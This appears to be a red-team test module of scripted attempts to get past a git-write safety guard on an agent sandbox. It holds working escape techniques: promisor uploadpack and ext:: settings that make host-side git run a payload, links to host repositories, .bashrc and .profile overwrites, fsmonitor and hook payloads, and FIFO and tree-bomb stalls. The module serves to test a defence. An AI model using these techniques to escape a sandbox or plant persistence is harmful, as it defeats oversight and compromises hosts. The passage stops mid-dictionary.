"""guard22's attempts, written before any was run (23:00-23:25 UTC, on main at d1bfe16), in tables by what they
attack. First and most: ``safety.gitwrites`` runs git on the host, over the workspace's repository, to list the files
a merge/checkout/reset … would write; the repository's own settings, objects, links and refs are the sandbox's to
write. HOSTEXEC: settings that make that host-side git run a command (a promisor remote's lazy fetch); HOSTREAD: a
repository that is not the workspace's (a linked ``.git``, alternates, commondir, a linked folder); DIVERGE: what
the host-side git lists is not what the sandbox's git writes (objects, repositories and indexes only the sandbox
sees, the work tree moved by ``core.worktree``/``--work-tree``/``--prefix``, replace refs, pathspec magic, files the
index holds rather than a revision); SLOW: a review held by a FIFO or a huge listing. Then the known open ones
(guard21's seven; values the session does not keep). ``{…}`` placeholders: ``redteam22_parts``."""

from __future__ import annotations

from .redteam19_parts import C1, EV, GI, P
from .redteam20_parts import RUN
from .redteam21_parts import BUNDLE, CLONE

MISSING_TREE = "1234567890123456789012345678901234567890^{tree}"
HP = "touch {H}; false"  # the host payload: {H} is a file the sandbox cannot create
SUB = "(mkdir -p sub && cd sub && " + GI + " && echo x > a.txt && git add a.txt && git commit -qm a)"

# 1. the repository's settings make the host-side git run a command (lazy fetch from a promisor remote)
_PROMISOR = "git config core.repositoryformatversion 1 && git config extensions.partialClone origin && " \
            "git config remote.origin.promisor true && "
CONFIGS = {
    "promisor uploadpack": _PROMISOR + "git config remote.origin.url {W} && git config remote.origin.uploadpack '" + HP + "'",
    "promisor file:// uploadpack": _PROMISOR + "git config remote.origin.url file://{W} && git config remote.origin.uploadpack '" + HP + "'",
    "remote.promisor only": "git config remote.origin.promisor true && git config remote.origin.url {W} && git config remote.origin.uploadpack '" + HP + "'",
    "promisor ext::": _PROMISOR + "git config protocol.ext.allow always && git config remote.origin.url 'ext::sh -c touch% {H}'",
    "promisor ssh sshCommand": _PROMISOR + "git config remote.origin.url ssh://h/r && git config core.sshCommand '" + HP + "'",
    "promisor git:// gitProxy": _PROMISOR + "git config remote.origin.url git://h/r && git config core.gitProxy '" + HP + " #'",
    "promisor other remote name": "git config core.repositoryformatversion 1 && git config extensions.partialClone up && "
                                  "git config remote.up.promisor true && git config remote.up.url {W} && git config remote.up.uploadpack '" + HP + "'",
    "promisor in config.worktree": "git config extensions.worktreeConfig true && git config --worktree core.repositoryformatversion 1 && "
                                   "git config --worktree remote.origin.promisor true && git config --worktree remote.origin.url {W} && "
                                   "git config --worktree remote.origin.uploadpack '" + HP + "'",
    "promisor by printf into .git/config": "printf '[core]\\n\\trepositoryformatversion = 1\\n[extensions]\\n\\tpartialClone = origin\\n"
                                           "[remote \"origin\"]\\n\\turl = {W}\\n\\tpromisor = true\\n\\tuploadpack = " + HP + "\\n' >> .git/config",
    "promisor by an included file": ("git config include.path ../p.cfg", ),
}
WRITERS = {
    "merge": "git merge -q {S}",
    "checkout REV -- .": "git checkout {S} -- .",
    "checkout REV": "git checkout -q {S}",
    "cherry-pick": "git cherry-pick {S}",
    "revert": "git revert --no-edit {S}",
    "reset --hard": "git reset -q --hard {S}",
    "restore --source": "git restore --source {S} -- .",
    "read-tree -u -m": "git read-tree -u -m {S}",
    "stash apply": "git stash apply {S}",
    "switch -c": "git switch -q -c x {S}",
    "rebase": "git rebase -q {S}",
    "worktree add": "git worktree add -q w {S}",
    "checkout REV a file": "git checkout {S} a.txt",
}
PCFG = ("p.cfg", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n"
                 "\turl = {W}\n\tpromisor = true\n\tuploadpack = " + HP + "\n")


def _hostexec(cfg: str, op: str) -> list:
    c = CONFIGS[cfg]
    steps = [C1]
    if isinstance(c, tuple):
        steps += [PCFG, *c]
    else:
        steps.append(c)
    return steps + [WRITERS[op]]


HOSTEXEC = {f"{cfg} -> {op}": _hostexec(cfg, op) for cfg in CONFIGS for op in WRITERS}
HOSTEXEC.update({
    "promisor in a sub repo, git -C sub merge": [SUB, "(cd sub && " + CONFIGS["promisor uploadpack"].replace("{W}", "{W}/sub") + ")", "git -C sub merge -q {S}"],
    "promisor, the writer in a loop": [C1, CONFIGS["promisor uploadpack"], "for r in {S}; do git merge -q $r; done"],
    "promisor, the writer in a function": [C1, CONFIGS["promisor uploadpack"], "m() { git merge -q {S}; }; m"],
    "promisor, the writer in bash -c": [C1, CONFIGS["promisor uploadpack"], "bash -c 'git merge -q {S}'"],
    "promisor, the writer in a script": [C1, CONFIGS["promisor uploadpack"], ("m.sh", "git merge -q {S}\n"), "sh m.sh"],
    "promisor, stash pop of a missing stash": [C1, CONFIGS["promisor uploadpack"], "git update-ref refs/stash {S} 2>/dev/null; git stash pop"],
    "promisor, a ref to a missing commit then merge it": [C1, CONFIGS["promisor uploadpack"], "printf '{S}\\n' > .git/refs/heads/z", "git merge -q z"],
    "promisor, packed-refs to a missing commit": [C1, CONFIGS["promisor uploadpack"], "printf '{S} refs/heads/z\\n' >> .git/packed-refs", "git checkout z -- ."],
    "promisor, a missing tag object": [C1, CONFIGS["promisor uploadpack"], "printf '{S}\\n' > .git/refs/tags/t", "git reset -q --hard t"],
    "promisor, cherry-pick a range": [C1, CONFIGS["promisor uploadpack"], "git cherry-pick HEAD..{S}"],
    "promisor, rebase --onto": [C1, CONFIGS["promisor uploadpack"], "git rebase -q --onto {S} HEAD"],
    "promisor, checkout-index -a after a missing blob in the index": [C1, CONFIGS["promisor uploadpack"], "git update-index --add --cacheinfo 100644,{S},f.txt", "git checkout-index -a -f"],
})

# 2. the host-side git reads a repository that is not the workspace's ({HR}: on the host only; its HEAD adds .bashrc)
HOSTREAD = {
    ".git linked to a host repo: checkout HEAD -- .": ["ln -s {HR}/.git .git", "git checkout HEAD -- ."],
    ".git linked to a host repo: merge": ["ln -s {HR}/.git .git", "git merge -q {HS}"],
    ".git linked to a host repo: reset --hard": ["ln -s {HR}/.git .git", "git reset -q --hard HEAD"],
    ".git linked to a host repo: read-tree": ["ln -s {HR}/.git .git", "git read-tree -u -m HEAD"],
    ".git linked to a host repo: checkout-index": ["ln -s {HR}/.git .git", "git checkout-index -a -f"],
    ".git linked to a host repo: restore": ["ln -s {HR}/.git .git", "git restore --source HEAD -- ."],
    "a folder linked to a host repo, git -C": ["ln -s {HR} hr", "git -C hr checkout HEAD -- ."],
    "a folder linked to a host repo, cd": ["ln -s {HR} hr", "(cd hr && git checkout HEAD -- .)"],
    "gitfile through a linked folder": ["ln -s {HR} hr", "printf 'gitdir: hr/.git\\n' > .git", "git checkout HEAD -- ."],
    "gitfile naming the host repo": ["printf 'gitdir: {HR}/.git\\n' > .git", "git checkout HEAD -- ."],
    "alternates to the host repo's objects": [C1, "echo {HR}/.git/objects >> .git/objects/info/alternates", "git merge -q {HS}"],
    "alternates through a linked folder": [C1, "ln -s {HR}/.git/objects o", "echo {W}/o >> .git/objects/info/alternates", "git checkout {HS} -- ."],
    "objects folder linked to the host's": [C1, "rm -rf .git/objects && ln -s {HR}/.git/objects .git/objects", "git checkout {HS} -- ."],
    "commondir to the host repo": ["mkdir -p .git && printf 'ref: refs/heads/main\\n' > .git/HEAD && printf '{HR}/.git\\n' > .git/commondir", "git checkout HEAD -- ."],
    "refs linked to the host repo's": [C1, "rm -rf .git/refs && ln -s {HR}/.git/refs .git/refs && echo {HR}/.git/objects >> .git/objects/info/alternates", "git merge -q main"],
    "a worktree's commondir through a link out": [C1, "mkdir -p .git/worktrees/w && ln -s {HR}/.git .git/hrlink && printf '../../hrlink\\n' > .git/worktrees/w/commondir && printf 'ref: refs/heads/main\\n' > .git/worktrees/w/HEAD",
                                                 "mkdir -p w && printf 'gitdir: {W}/.git/worktrees/w\\n' > w/.git", "git -C w checkout HEAD -- ."],
}

# 3. the host-side git lists one thing, the sandbox's git writes another
_CL = [RUN, BUNDLE(), CLONE]
_BARE = "git clone -q --bare r.bundle {T} 2>/dev/null || git init -q --bare {T}; git -C {T} fetch -q {W}/r.bundle 'refs/heads/*:refs/heads/*'"
_TCLONE = "git clone -q r.bundle {T} && git -C {T} config user.email a@b && git -C {T} config user.name a"
DIVERGE = {
    # objects, repositories, indexes only the sandbox sees (its /tmp)
    "alternates to the sandbox's /tmp": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && " + C1, _BARE, "echo {T}/objects >> .git/objects/info/alternates", "git merge -q {PB}"],
    "alternates to /tmp, checkout REV -- .": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && " + C1, _BARE, "echo {T}/objects >> .git/objects/info/alternates", "git checkout {PB} -- ."],
    "alternates to /tmp, reset --hard": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && " + C1, _BARE, "echo {T}/objects >> .git/objects/info/alternates", "git reset -q --hard {PP}"],
    "GIT_ALTERNATE_OBJECT_DIRECTORIES": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && " + C1, _BARE, "GIT_ALTERNATE_OBJECT_DIRECTORIES={T}/objects git merge -q {PB}"],
    "GIT_OBJECT_DIRECTORY exported": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && " + C1, _BARE, "cp -r .git/objects/. {T}/objects/ && export GIT_OBJECT_DIRECTORY={T}/objects", "git merge -q {PB}"],
    ".git linked to a repo in /tmp": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "ln -s {T}/.git .git", "git checkout -q origin/p-bashrc -- ."],
    ".git linked to /tmp, merge": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "ln -s {T}/.git .git", "git merge -q origin/p-profile"],
    "gitfile to a repo in /tmp": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "printf 'gitdir: {T}/.git\\n' > .git", "git checkout -q origin/p-bashrc -- ."],
    "GIT_DIR to /tmp, work tree here": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "GIT_DIR={T}/.git GIT_WORK_TREE=. git checkout -q origin/p-bashrc -- ."],
    "GIT_DIR exported to /tmp": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "export GIT_DIR={T}/.git GIT_WORK_TREE={W}", "git checkout -q origin/p-bashrc -- ."],
    "--git-dir to /tmp": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "git --git-dir={T}/.git --work-tree=. checkout -q origin/p-bashrc -- ."],
    "git -C /tmp --work-tree here": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "git -C {T} --work-tree={W} checkout -q origin/p-bashrc -- ."],
    "/tmp repo with core.worktree here": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "git -C {T} config core.worktree {W}", "git -C {T} checkout -q origin/p-bashrc -- ."],
    "a folder linked to /tmp repo": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle", _TCLONE, "ln -s {T} t", "git -C t --work-tree=.. checkout -q origin/p-bashrc -- ."],
    "GIT_INDEX_FILE in /tmp then checkout-index": _CL + ["GIT_INDEX_FILE={T}.idx git reset -q o/p-bashrc", "GIT_INDEX_FILE={T}.idx git checkout-index -a -f"],
    "GIT_INDEX_FILE exported": _CL + ["export GIT_INDEX_FILE={T}.idx", "git reset -q o/p-bashrc", "git checkout-index -a -f"],
    # the work tree moved
    "sub repo core.worktree ../..": _CL + ["git init -q sub && git -C sub fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'", "git -C sub config core.worktree ../..", "git -C sub checkout -q o/p-bashrc -- ."],
    "sub repo --work-tree=..": _CL + ["git init -q sub && git -C sub fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'", "git -C sub --work-tree=.. checkout -q o/p-bashrc -- ."],
    "sub repo -c core.worktree": _CL + ["git init -q sub && git -C sub fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'", "git -c core.worktree={W} -C sub checkout -q o/p-profile -- ."],
    "GIT_WORK_TREE for a sub repo": _CL + ["git init -q sub && git -C sub fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'", "(cd sub && GIT_WORK_TREE=.. git checkout -q o/p-bashrc -- .)"],
    "checkout-index --prefix=. of bashrc": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "git checkout-index -a -f --prefix=."],
    "checkout-index --prefix=. one file": [C1, ("profile", P + "\n"), "git add profile && git commit -qm b", "git checkout-index -f --prefix=. -- profile"],
    "checkout-index --prefix=../ from a sub repo": [SUB, ("sub/.bashrc", P + "\n"), "(cd sub && git add -f .bashrc && git commit -qm b)", "git -C sub checkout-index -a -f --prefix=../"],
    "read-tree --prefix into a dotted folder": [C1, ("t/a.pth", "import os; os.system('sh run.sh')\n"), RUN, "git add t && git commit -qm t", "git read-tree -u --prefix=.local/lib/python3.11/site-packages/ HEAD:t", "python3 -c 1"],
    # refs the line makes or changes
    "branch then merge it on one line": _CL + ["git branch x o/p-bashrc && git merge -q x"],
    "checkout -b then merge on one line": _CL + ["git checkout -q -b x o/p-bashrc && git checkout -q main && git merge -q x"],
    "tag then merge on one line": _CL + ["git tag t o/p-bashrc && git merge -q t"],
    "tag then reset --hard on one line": _CL + ["git tag t o/p-profile && git reset -q --hard t"],
    "symbolic-ref then merge": _CL + ["git symbolic-ref refs/heads/x refs/remotes/o/p-bashrc && git merge -q x"],
    "replace refs then merge": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace side o/p-bashrc", "git merge -q side"],
    "replace refs on one line": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main && git replace side o/p-bashrc && git merge -q side"],
    "replace a tree then checkout": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace 'side^{tree}' 'o/p-bashrc^{tree}'", "git checkout side -- ."],
    "a ref file written then merge": _CL + ["git rev-parse o/p-bashrc > .git/refs/heads/x", "git merge -q x"],
    "packed-refs written then merge": _CL + ["echo \"$(git rev-parse o/p-bashrc) refs/heads/x\" >> .git/packed-refs", "git merge -q x"],
    "HEAD moved by a file write then reset --hard": _CL + ["git rev-parse o/p-bashrc > .git/HEAD.new && mv .git/HEAD.new .git/ORIG_HEAD", "git reset -q --hard ORIG_HEAD"],
    # files the index holds (not a revision)
    "reset (mixed) then checkout -- .": _CL + ["git reset -q o/p-bashrc", "git checkout -- ."],
    "reset (mixed) then checkout .": _CL + ["git reset -q o/p-bashrc", "git checkout ."],
    "reset (mixed) then restore .": _CL + ["git reset -q o/p-bashrc", "git restore ."],
    "reset (mixed) then restore -W": _CL + ["git reset -q o/p-profile", "git restore -W -- ."],
    "reset (mixed) then checkout -f": _CL + ["git reset -q o/p-bashrc", "git checkout -f"],
    "reset (mixed) then reset --hard": _CL + ["git reset -q o/p-bashrc", "git reset -q --hard"],
    "reset (mixed) then reset --hard HEAD": _CL + ["git reset -q o/p-profile", "git reset -q --hard HEAD"],
    "reset (mixed) then checkout -f HEAD": _CL + ["git reset -q o/p-bashrc", "git checkout -q -f HEAD"],
    "reset (mixed) then checkout-index one file": _CL + ["git reset -q o/p-bashrc", "git checkout-index -f .bashrc"],
    "reset (mixed) then read-tree --reset -u HEAD": _CL + ["git reset -q o/p-bashrc", "git read-tree --reset -u HEAD"],
    "reset --soft then reset --hard": _CL + ["git reset -q --soft o/p-bashrc", "git reset -q --hard"],
    "reset --soft then checkout HEAD -- .": _CL + ["git reset -q --soft o/p-profile", "git checkout HEAD -- ."],
    "reset --soft then stash then pop": _CL + ["git reset -q --soft o/p-bashrc", "git stash -q", "git stash pop -q"],
    "update-index cacheinfo then checkout-index": _CL + [EV, "git hash-object -w evil.txt > /dev/null", "git update-index --add --cacheinfo 100644,{EB},.bashrc", "git checkout-index -f .bashrc"],
    "update-index cacheinfo then checkout --": _CL + [EV, "git hash-object -w evil.txt > /dev/null", "git update-index --add --cacheinfo 100644,{EB},.profile", "git checkout -- .profile"],
    "update-index cacheinfo then restore": _CL + [EV, "git hash-object -w evil.txt > /dev/null", "git update-index --add --cacheinfo 100644,{EB},.bashrc", "git restore .bashrc"],
    "update-index index-info then checkout-index -a": _CL + [EV, "git hash-object -w evil.txt > /dev/null", "printf '100644 {EB}\\t.bashrc\\n' | git update-index --index-info", "git checkout-index -a"],
    "read-tree (no -u) then checkout-index -a": _CL + ["git read-tree o/p-bashrc", "git checkout-index -a -f"],
    "git mv to .bashrc": [C1, EV, "git add evil.txt && git commit -qm e", "git mv evil.txt .bashrc"],
    "git mv to .profile in a folder move": [C1, ("d/.profile", P + "\n"), "git add -f d && git commit -qm e", "git mv d/.profile .profile"],
    # pathspec magic and spellings
    "checkout REV -- :(icase)": _CL + ["git checkout o/p-bashrc -- ':(icase).BASHRC'"],
    "checkout REV -- :/": _CL + ["git checkout o/p-bashrc -- ':/'"],
    "checkout REV -- :(top)": _CL + ["git checkout o/p-bashrc -- ':(top).bashrc'"],
    "checkout REV -- :(glob)": _CL + ["git checkout o/p-bashrc -- ':(glob)**'"],
    "checkout REV -- :!README": _CL + ["git checkout o/p-bashrc -- ':!README'"],
    "checkout REV -- :^README": _CL + ["git checkout o/p-profile -- ':^README'"],
    "checkout REV -- :(exclude)": _CL + ["git checkout o/p-bashrc -- ':(exclude)README'"],
    "checkout REV -- :(literal)": _CL + ["git checkout o/p-bashrc -- ':(literal).bashrc'"],
    "checkout REV -- .bash?c": _CL + ["git checkout o/p-bashrc -- '.bash?c'"],
    "checkout REV -- sub/../": _CL + ["mkdir -p sub && git checkout o/p-bashrc -- sub/.."],
    "restore --source REV :(icase)": _CL + ["git restore --source o/p-bashrc -- ':(icase).BashRC'"],
    "restore -s REV :/": _CL + ["git restore -s o/p-profile -W ':/'"],
    "checkout REV --pathspec-from-file": _CL + [("l.txt", ".bashrc\n"), "git checkout o/p-bashrc --pathspec-from-file=l.txt"],
    "restore --pathspec-from-file": _CL + [("l.txt", ".bashrc\n"), "git restore --source=o/p-bashrc --pathspec-from-file=l.txt"],
    "checkout REV without --": _CL + ["git checkout o/p-bashrc .bashrc"],
    "checkout with --end-of-options": _CL + ["git checkout --end-of-options o/p-bashrc -- ."],
    "restore --source= glued -s": _CL + ["git restore -so/p-bashrc .bashrc"],
    "reset --hard with a rev after --": _CL + ["git reset -q --hard o/p-bashrc --"],
    "merge with options after the rev": _CL + ["git merge o/p-bashrc -q --no-edit"],
    "merge with --into-name and -m": _CL + ["git merge -m x --into-name main o/p-profile"],
    "cherry-pick -n": _CL + ["git cherry-pick -n o/p-bashrc"],
    "cherry-pick -m 1 of a merge": _CL + ["git merge -q --no-ff -m m o/p-json 2>/dev/null; git reset -q --hard main", "git cherry-pick -m 1 o/p-bashrc 2>/dev/null; true"],
    "rebase -i with exec-less todo": _CL + ["GIT_SEQUENCE_EDITOR=true git rebase -q -i o/p-bashrc"],
    "pull . branch": _CL + ["git pull -q . o/p-bashrc 2>/dev/null; git pull -q --no-rebase . refs/remotes/o/p-bashrc"],
    "merge @{-1}": _CL + ["git checkout -q o/p-bashrc && git checkout -q main", "git merge -q @{-1}"],
    "merge -": _CL + ["git checkout -q o/p-profile 2>/dev/null; git checkout -q main", "git merge -q -"],
    "apply -p2": [C1, ("x.diff", "--- a/x/.bashrc\n+++ b/x/.bashrc\n@@ -0,0 +1 @@\n+" + P + "\n"), "git apply -p2 x.diff"],
    "apply --directory": [C1, ("x.diff", "--- /dev/null\n+++ b/rc\n@@ -0,0 +1 @@\n+" + P + "\n"), "git apply --directory=.bash x.diff 2>/dev/null; git apply x.diff"],
    "patch -p2": [C1, ("x.diff", "--- a/x/.bashrc\n+++ b/x/.bashrc\n@@ -0,0 +1 @@\n+" + P + "\n"), "patch -p2 < x.diff"],
    "am --directory": _CL + [("p.mbox", "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\nFrom: a <a@b>\nDate: Thu, 1 Jan 2026 00:00:00 +0000\nSubject: [PATCH] n\n\n---\n diff --git a/rc b/rc\nnew file mode 100644\n--- /dev/null\n+++ b/rc\n@@ -0,0 +1 @@\n+" + P + "\n-- \n2.39.5\n\n"), "git am -q --directory=.bash p.mbox 2>/dev/null; true"],
}

# 4. the review held: FIFOs, a huge object, a huge tree, many git commands on one line
BIGTREE = ("mk.sh", "set -e\nb=$(printf x | git hash-object -w --stdin)\n"
                    "t0=$(for i in $(seq 1 1000); do printf '100644 blob %s\\tf%04d\\n' $b $i; done | git mktree)\n"
                    "t1=$(for i in $(seq 1 1000); do printf '040000 tree %s\\td%04d\\n' $t0 $i; done | git mktree)\n"
                    "t2=$(for i in $(seq 1 100); do printf '040000 tree %s\\te%03d\\n' $t1 $i; done | git mktree)\n"
                    "c=$(git commit-tree -m b $t2)\ngit update-ref refs/heads/bomb $c\n")
SLOW = {
    "include.path to a FIFO": [C1, "mkfifo .git/inc && printf '[include]\\n\\tpath = inc\\n' >> .git/config", "git merge -q main"],
    "config is a FIFO": [C1, "mv .git/config .git/c0 && mkfifo .git/config", "git checkout HEAD -- ."],
    "HEAD is a FIFO, merge": [C1, "git branch b && mv .git/HEAD .git/H0 && mkfifo .git/HEAD", "git merge -q b"],
    "packed-refs is a FIFO": [C1, "mkfifo .git/packed-refs", "git reset -q --hard HEAD"],
    "index is a FIFO, checkout-index": [C1, "rm -f .git/index && mkfifo .git/index", "git checkout-index -a"],
    "a loose ref is a FIFO": [C1, "mkfifo .git/refs/heads/f", "git merge -q f"],
    "alternates is a FIFO": [C1, "mkfifo .git/objects/info/alternates", "git merge -q main"],
    "commondir is a FIFO": [C1, "mkfifo .git/commondir", "git checkout HEAD -- ."],
    "FIFO include, 30 merges on one line": [C1, "mkfifo .git/inc && printf '[include]\\n\\tpath = inc\\n' >> .git/config",
                                            " ; ".join(["git merge -q main 2>/dev/null"] * 30)],
    "config includes /dev/zero": [C1, "printf '[include]\\n\\tpath = /dev/zero\\n' >> .git/config", "git merge -q main"],
    "config includes /dev/stdin": [C1, "printf '[include]\\n\\tpath = /dev/stdin\\n' >> .git/config", "git merge -q main"],
    "a tree of 100 million paths": [C1, BIGTREE, "sh mk.sh", "git checkout bomb -- README.md 2>/dev/null; true"],
    "a tree of 100 million paths, merge": [C1, BIGTREE, "sh mk.sh", "git merge -q bomb 2>/dev/null; true"],
    "a 200 MB .envrc blob": [C1, "head -c 200000000 /dev/zero | tr '\\0' '#' > .envrc && git add .envrc && git commit -qm e && rm .envrc", "git checkout HEAD -- .envrc"],
    "40 checkouts of a missing rev": [C1, " ; ".join([f"git checkout nope{i} -- . 2>/dev/null" for i in range(40)])],
}

# 5. known open: guard21's seven, and values the session does not keep
OPEN21 = {
    "envrc by write_file": [(".envrc", P + "\n")],
    "envrc by cp": [EV, "cp evil.txt .envrc"],
    "envrc then direnv": [(".envrc", P + "\n"), "direnv allow . 2>/dev/null; direnv exec . true 2>/dev/null; true"],
    "bundle cloned to /tmp then cp -a": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && git clone -q -b p-bashrc r.bundle /tmp/cb", "cp -a /tmp/cb/. ."],
    "bundle cloned to /tmp then rsync": [RUN, BUNDLE(), "base64 -d r.b64 > r.bundle && git clone -q -b p-profile r.bundle /tmp/cp2", "cp -r /tmp/cp2/.profile ."],
    "vscode settings terminal env": [(".vscode/settings.json", '{"terminal.integrated.env.linux": {"PROMPT_COMMAND": "sh run.sh"}}\n'), RUN],
    "vscode settings automationProfile": [(".vscode/settings.json", '{"terminal.integrated.automationProfile.linux": {"path": "sh", "args": ["run.sh"]}}\n'), RUN],
    "fc -s": [RUN, "history -s 'sh run.sh'", "fc -s sh"],
    "fifo writer in the same line": ["mkfifo json.py && (echo \"import os; os.system('sh run.sh')\" > json.py &) && python3 -c 'import json'", RUN],
}
SESSION22 = {
    "read then cp": [EV, "read -r T <<< .bashrc", "cp evil.txt \"$T\""],
    "read from a file then redirect": [EV, ("n.txt", ".profile\n"), "read -r T < n.txt", "cat evil.txt >> \"$T\""],
    "printf -v then cp": [EV, "printf -v T '%s' .bashrc", "cp evil.txt \"$T\""],
    "printf -v with a format": [EV, "printf -v T '.%src' bash", "cp evil.txt \"$T\""],
    "mapfile then cp": [EV, ("n.txt", ".bashrc\n"), "mapfile -t A < n.txt", "cp evil.txt \"${A[0]}\""],
    "readarray then cp": [EV, "readarray -t A <<< .profile", "cp evil.txt \"${A[0]}\""],
    "array then cp": [EV, "A=(x .bashrc)", "cp evil.txt \"${A[1]}\""],
    "array append then cp": [EV, "A=(x); A+=(.bashrc)", "cp evil.txt \"${A[1]}\""],
    "array all then cp": [EV, "A=(.bashrc)", "cp evil.txt \"${A[@]}\""],
    "assoc array then cp": [EV, "declare -gA M=([k]=.bashrc)", "cp evil.txt \"${M[k]}\""],
    "declare then cp": [EV, "declare T=.bashrc", "cp evil.txt \"$T\""],
    "declare -x then cp": [EV, "declare -x T=.profile", "cp evil.txt \"$T\""],
    "typeset then cp": [EV, "typeset T=.bashrc", "cp evil.txt \"$T\""],
    "local-less export -n then cp": [EV, "export -n T=.bashrc", "cp evil.txt \"$T\""],
    "default expansion": [EV, "cp evil.txt \"${T:-.bashrc}\""],
    "default expansion in a later step": [EV, "unset T", "cp evil.txt \"${T:-.bashrc}\""],
    "assign-default expansion": [EV, ": \"${T:=.bashrc}\"", "cp evil.txt \"$T\""],
    "replace expansion": [EV, "T=.xashrc", "cp evil.txt \"${T/x/b}\""],
    # (was T=.pxofilx and ${T//x/r}: that makes ".profilr", a harmless name, which the session's exact values
    # (guard25) rightly approve; every x dropped from T=.pxrofxile makes ".profile")
    "replace-all expansion": [EV, "T=.pxrofxile", "cp evil.txt \"${T//x/}\""],
    "prefix strip expansion": [EV, "T=xx.bashrc", "cp evil.txt \"${T#xx}\""],
    "suffix strip expansion": [EV, "T=.bashrc.bak", "cp evil.txt \"${T%.bak}\""],
    "substring expansion": [EV, "T=zz.bashrc", "cp evil.txt \"${T:2}\""],
    "case change expansion": [EV, "T=.BASHRC", "cp evil.txt \"${T,,}\""],
    "alternate expansion": [EV, "T=1", "cp evil.txt \"${T:+.bashrc}\""],
    "indirect expansion": [EV, "V=.bashrc; N=V", "cp evil.txt \"${!N}\""],
    "nameref": [EV, "V=.bashrc; declare -n R=V", "cp evil.txt \"$R\""],
    "let/arith index": [EV, "A=(x .bashrc); i=1", "cp evil.txt \"${A[i]}\""],
    "read -a": [EV, "read -ra A <<< 'x .profile'", "cp evil.txt \"${A[1]}\""],
    "IFS split read": [EV, "IFS=: read -r a b <<< 'x:.bashrc'", "cp evil.txt \"$b\""],
    "getopts OPTARG": [EV, "set -- -f .bashrc; getopts f: o; T=$OPTARG", "cp evil.txt \"$T\""],
    "positional set": [EV, "set -- .bashrc", "cp evil.txt \"$1\""],
    "for loop variable kept": [EV, "for T in .bashrc; do :; done", "cp evil.txt \"$T\""],
    "select-less case": [EV, "case x in x) T=.profile;; esac", "cp evil.txt \"$T\""],
    "if-branch assignment": [EV, "if true; then T=.bashrc; fi", "cp evil.txt \"$T\""],
    "function sets a global": [EV, "f() { T=.bashrc; }; f", "cp evil.txt \"$T\""],
    "eval assignment": [EV, "eval T=.bashrc", "cp evil.txt \"$T\""],
    "source a file assigns": [EV, ("v.sh", "T=.bashrc\n"), ". ./v.sh", "cp evil.txt \"$T\""],
    "readonly -a": [EV, "readonly -a A=(.bashrc)", "cp evil.txt \"${A[0]}\""],
    "hook dir by default expansion": [RUN, C1, "cp run.sh \"${D:-.git/hooks}/pre-commit\" && chmod +x .git/hooks/pre-commit", "git commit -q --allow-empty -m b"],
    "gitconfig by printf -v": [RUN, C1, "printf -v G '%s/.gitconfig' \"$HOME\"", "printf '[core]\\n\\tfsmonitor = sh run.sh\\n' >> \"$G\"", "git status > /dev/null"],
}

# 6. the sandbox's git reads a repository the guard's host-side reader cannot: its settings and hooks run unjudged
CFG = ("cfg.txt", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = sh run.sh\n")
HOOK = ("h.txt", "#!/bin/sh\n" + P + "\n")
_TI = "git init -q {T}"
SANDBOXGIT = {
    ".git linked to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
    ".git linked to /tmp, its config by cat >>": [RUN, CFG, _TI, "cat cfg.txt >> {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
    ".git linked to /tmp, its config by python": [RUN, CFG, _TI, "python3 -c \"open('{T}/.git/config','w').write(open('cfg.txt').read())\"", "ln -s {T}/.git .git", "git status > /dev/null"],
    ".git linked to /tmp, its config by install": [RUN, CFG, _TI, "install -m 644 cfg.txt {T}/.git/config", "ln -s {T}/.git .git", "git status > /dev/null"],
    ".git linked to /tmp, a hook by cp": [RUN, HOOK, _TI + " && git -C {T} commit -q --allow-empty -m a", "cp h.txt {T}/.git/hooks/post-checkout && chmod +x {T}/.git/hooks/post-checkout", "ln -s {T}/.git .git", "git checkout -q -b z"],
    ".git linked to /tmp, a hook by tar": [RUN, HOOK, _TI + " && git -C {T} commit -q --allow-empty -m a", "mkdir -p x/hooks && cp h.txt x/hooks/pre-commit && chmod +x x/hooks/pre-commit && tar cf x.tar -C x hooks && tar xf x.tar -C {T}/.git", "ln -s {T}/.git .git", "git commit -q --allow-empty -m b"],
    "gitfile to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "printf 'gitdir: {T}/.git\\n' > .git", "git status > /dev/null"],
    "git -C /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "git -C {T} status > /dev/null"],
    "cd /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "cd {T} && git status > /dev/null"],
    "a folder linked to /tmp, its config by cp": [RUN, CFG, _TI, "cp cfg.txt {T}/.git/config", "ln -s {T} t", "git -C t status > /dev/null"],
